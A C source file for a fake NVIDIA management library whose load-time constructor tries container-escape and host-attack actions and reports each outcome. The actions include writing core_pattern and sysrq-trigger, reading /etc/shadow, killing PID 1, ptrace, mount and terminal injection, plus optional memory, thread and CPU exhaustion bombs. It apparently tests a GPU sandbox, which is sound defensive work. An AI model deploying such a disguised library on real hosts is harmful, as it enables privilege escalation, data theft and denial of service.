// SPDX-License-Identifier: Apache-2.0
/*
 * A libnvidia-ml that attacks the host as soon as it is loaded. BOMB is one of the endless ones, by
 * which it takes all of something; without it, each attempt's outcome is printed, a line each.
 * PLACE is a directory of root's with `victim`, `socket` and `key`, PID a process of root's.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef PID
#define PID 1
#endif
#ifndef DEV
#define DEV "/dev"
#endif
#ifndef PLACE
#define PLACE "/tmp"
#endif

int nvmlInit_v2(void);

static void say(const char *name, long r)
{
	dprintf(2, "%s: %s\n", name, r >= 0 ? "DONE" : strerrorname_np(errno));
}

static void try_open(const char *path, int flags)
{
	char name[256];
	int fd = open(path, flags);

	snprintf(name, sizeof(name), "open %s", path);
	say(name, fd);
	if (fd >= 0)
		close(fd);
}

static void try_store(void)
{
	int fd = open(PLACE "/victim", O_RDWR);
	char *at =
		fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	if (at != MAP_FAILED)
		memcpy(at, "changed", 7);
	say("store", at == MAP_FAILED ? -1 : 0);
}

static void try_sockets(void)
{
	static const int families[] = {AF_UNIX, AF_INET, AF_NETLINK, AF_VSOCK, AF_ALG, AF_PACKET};
	int pair[2];

	for (size_t i = 0; i < sizeof(families) / sizeof(families[0]); i++) {
		char name[32];

		snprintf(name, sizeof(name), "socket %d", families[i]);
		say(name, socket(families[i], SOCK_STREAM, 0));
	}
	say("socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, pair));
}

static void try_signals(void)
{
	struct f_owner_ex owner = {F_OWNER_PID, PID};
	int pair[2] = {-1, -1};

	/* Signal 0 alone, for the sake of the machine that has a sandbox with a hole. */
	say("kill all", kill(-1, 0));
	say("kill", kill(PID, SIGKILL));
	say("tgkill", syscall(SYS_tgkill, PID, PID, SIGKILL));
	say("sigqueue", syscall(SYS_rt_sigqueueinfo, PID, SIGKILL, NULL));
	say("pidfd", syscall(434, PID, 0));
	if (pipe(pair) < 0)
		return;
	say("F_SETOWN", fcntl(pair[0], F_SETOWN, PID));
	say("F_SETOWN_EX", fcntl(pair[0], F_SETOWN_EX, &owner));
	say("F_SETSIG", fcntl(pair[0], F_SETSIG, SIGKILL));
	say("O_ASYNC", fcntl(pair[0], F_SETFL, O_ASYNC | O_NONBLOCK));
	say("F_NOTIFY", fcntl(open("/", O_RDONLY), F_NOTIFY, DN_CREATE | DN_MULTISHOT));
	say("F_SETLEASE", fcntl(open("/etc/ld.so.cache", O_RDONLY), F_SETLEASE, F_RDLCK));
	say("F_SETPIPE_SZ", fcntl(pair[0], F_SETPIPE_SZ, 1 << 20));
}

/* With arguments that would do it, or that fail otherwise. */
static void try_calls(void)
{
	const struct rlimit more = {1UL << 40, 1UL << 40};
	/* clang-format off */
	const struct {
		const char *name;
		long number, a, b, c, d;
	} calls[] = {
		{"ptrace",               SYS_ptrace,              16,                                          PID,										       0,													  0},
		{"process_vm_writev",                      SYS_process_vm_writev,                           PID,                            0,											0,																				      0},
		{"setpriority",                     SYS_setpriority,                                            PRIO_PROCESS,									   PID,																 19              },
		{"sched_setscheduler",                    SYS_sched_setscheduler,                                           PID,                                                                   0,0                                 },
		{"sched_setaffinity",                     SYS_sched_setaffinity,                                            PID,								     0,																   0																			     },
		{"ioprio_set",                     SYS_ioprio_set,                                            1,									    PID, 0},
		{"shmget",                     SYS_shmget,					    0,										4096,																	   01600																																				       },
		{"msgget",                 SYS_msgget,					0,									    01600},
		{"semget",                      SYS_semget,                                      0,						  1,												     01600},
		{"mq_open",                      SYS_mq_open,                                     (long)"x",                                                O_CREAT | O_RDWR,											    0600																			    },
		{"memfd_create",                      SYS_memfd_create,                                (long)"x",                                      0										      },
		{"timer_create",         SYS_timer_create,        CLOCK_REALTIME,                              0,											 0																																													   },
		{"setitimer",            SYS_setitimer,           0,                                           0,											 0},
		{"keyctl",               SYS_keyctl,              0,					   -3,											0													 },
		{"add_key",              SYS_add_key,             (long)"user",                                (long)"x",										 (long)"y",													  1},
		{"bpf",                      SYS_bpf,					 0,							0,													0													 },
		{"perf_event_open",                      SYS_perf_event_open,                             0,                                0,											    -1,												  -1},
		{"io_uring_setup",                    425,					   4,								       0																	 },
		{"userfaultfd",                      SYS_userfaultfd,                                 0                                       },
		{"inotify_init1",     SYS_inotify_init1,                       0                                           },
		{"fanotify_init",                     SYS_fanotify_init,                                            0,										 0},
		{"mount",         SYS_mount,                               (long)"x",									  (long)"/",									    (long)"tmpfs",																			  0},
		{"umount2",                     SYS_umount2,					    (long)"/proc",									    2														  },
		{"pivot_root",                      SYS_pivot_root,                                      (long)".",							   (long)"."									       },
		{"chroot",             SYS_chroot,                           (long)"/"                                     },
		{"setns",         SYS_setns,                                0,                      0},
		{"unshare",                     SYS_unshare,					    CLONE_NEWUSER									    },
		{"setresuid",                      SYS_setresuid,                                 0,                                         0,                                  0							    },
		{"setgroups",       SYS_setgroups, 0, 0																				     },
		{"personality",                     SYS_personality,                                           0x0400000                                           },
		{"sethostname",                     SYS_sethostname,                                           (long)"x",										      1},
		{"settimeofday",                     SYS_settimeofday,                                           0,										      0														 },
		{"reboot",     SYS_reboot,                           0,								     0,0												       },
		{"execve",               SYS_execve,                                     (long)"/bin/true",									      0,     0                         },
		{"execveat",                   SYS_execveat,                             AT_FDCWD,                                                 (long)"/bin/true",0,																		 0},
		{"clone", SYS_clone,  SIGCHLD,  0,																							   0,																						      0},
		{"landlock_create_ruleset",             444,                       0,                                         0,										     1 },
		{"open_by_handle_at",                     SYS_open_by_handle_at,                                           -1,                                                 0,																						       0},
		{"prctl dumpable",             SYS_prctl,                         4,								   1},
		{"prctl pdeathsig",                     SYS_prctl,                                      1,                                        0            },
		{"prlimit",                     SYS_prlimit64,                                      0,						    RLIMIT_AS,(long)&more,												       0},
		{"TIOCSTI",                     SYS_ioctl,                                 1,                                 0x5412,										      (long)"x"																																       },
		{"TCSETS",                     SYS_ioctl,                             1,                             0x5402,									       0									 },
	};
	/* clang-format on */

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++)
		say(calls[i].name,
		    syscall(calls[i].number, calls[i].a, calls[i].b, calls[i].c, calls[i].d, 0));
}

static void try_files(void)
{
	static const char *const written[] = {
		PLACE "/victim",
		"/proc/sys/kernel/core_pattern",
		"/proc/sys/kernel/hostname",
		"/proc/self/oom_score_adj",
		"/proc/sysrq-trigger",
		"/etc/ld.so.cache",
		"/usr/bin/env",
		"/dev/kmsg",
		"/dev/mem",
		"/dev/vda",
		"/dev/tty",
		"/dev/fuse",
		"/dev/kvm",
		"/dev/net/tun",
		"/sys/kernel/mm/transparent_hugepage/enabled",
		"/sys/power/state",
		"/sys/fs/cgroup/cgroup.procs",
	};
	static const char *const hidden[] = {PLACE "/key", "/etc/shadow", "/run",
					     "/var",       "/root",       "/home",
					     "/boot",      "/proc/kcore", "/etc/passwd"};
	char path[64];

	for (size_t i = 0; i < sizeof(written) / sizeof(written[0]); i++)
		try_open(written[i], O_WRONLY);
	for (size_t i = 0; i < sizeof(hidden) / sizeof(hidden[0]); i++)
		try_open(hidden[i], O_RDONLY);
	snprintf(path, sizeof(path), "/proc/%d/environ", PID);
	try_open(path, O_RDONLY);
	say("create", open(PLACE "/made", O_CREAT | O_WRONLY, 0600));
	say("unlink", unlink(PLACE "/victim"));
	say("symlink", symlink("x", PLACE "/made"));
	say("chmod", chmod(PLACE "/victim", 0777));
	say("mknod", mknod(PLACE "/made", S_IFCHR, 0x103));
	for (int fd = 3; fd < 8192; fd++)
		if (syscall(SYS_fcntl, fd, F_GETFD) >= 0)
			dprintf(2, "descriptor %d: DONE\n", fd);
}

static int spin(void *unused)
{
	(void)unused;
	for (;;)
		(void)sched_yield();
	return 0;
}

static void explode(const char *bomb)
{
	static char stacks[4096][1024] __attribute__((aligned(16)));
	long count = 0;
	char *at;

	if (strcmp(bomb, "memory") == 0) {
		while ((at = mmap(NULL, 64 << 20, PROT_READ | PROT_WRITE,
				  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)) != MAP_FAILED) {
			memset(at, 1, 64 << 20);
			count += 64;
		}
		dprintf(2, "%ld MiB\n", count);
	} else if (strcmp(bomb, "threads") == 0) {
		while (count < 4096 &&
		       clone(spin, stacks[count] + 1024,
			     CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD,
			     NULL) > 0)
			count++;
		dprintf(2, "%ld threads\n", count);
		syscall(SYS_exit_group, 0);
	} else if (strcmp(bomb, "descriptors") == 0) {
		while (open("/dev/null", O_RDONLY) >= 0)
			count++;
		dprintf(2, "%ld descriptors\n", count);
	} else if (strcmp(bomb, "output") == 0) {
		for (;;)
			if (write(1, "\033]0;x\007{{{{{{{{", 15) < 0)
				break;
	} else if (strcmp(bomb, "time") == 0) {
		signal(SIGXCPU, SIG_IGN);
		for (;;)
			;
	} else if (strcmp(bomb, "sleep") == 0) {
		(void)poll(NULL, 0, 50000);
	} else if (strcmp(bomb, "crash") == 0) {
		__builtin_trap();
	}
}

/* Which nodes of the driver's can be opened: a line with their names. */
static void list_nodes(void)
{
	static const char *const names[] = {
		"nvidiactl",
		"nvidia0",
		"nvidia-uvm",
		"nvidia-nvswitch0",
		"nvidia-caps/nvidia-cap2",
		"nvidia-caps/nvidia-cap1",
		"nvidia-caps-imex-channels/channel0",
		"nvidia-modeset",
		"nvidia-fs0",
		"nvidia0x",
		"kvm",
	};
	char path[128];

	dprintf(2, "nodes:");
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", DEV, names[i]);
		if (open(path, O_RDONLY) >= 0)
			dprintf(2, " %s", names[i]);
	}
	dprintf(2, "\n");
}

__attribute__((constructor)) static void attack(void)
{
#ifdef BOMB
	explode(BOMB);
#else
	explode("");
	list_nodes();
	dprintf(2, "root: %s\n", geteuid() == 0 ? "yes" : "no");
	try_store();
	try_files();
	try_sockets();
	try_signals();
	try_calls();
#endif
}

int nvmlInit_v2(void)
{
	return 9;
}
